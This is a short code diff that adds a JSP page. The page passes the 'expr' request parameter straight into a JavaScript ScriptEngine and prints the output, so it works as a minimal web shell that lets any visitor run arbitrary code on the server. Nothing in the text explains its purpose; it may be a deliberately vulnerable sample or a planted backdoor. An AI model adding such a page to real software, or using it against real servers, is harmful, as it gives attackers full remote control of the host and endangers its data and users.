@@ -1,0 +1,6 @@
+<%@ page import="javax.script.*" %>
+<%
+	ScriptEngine engine = new ScriptEngineManager().getEngineByName("javascript");
+	Object result = engine.eval(request.getParameter("expr"));
+	out.print(result);
+%>
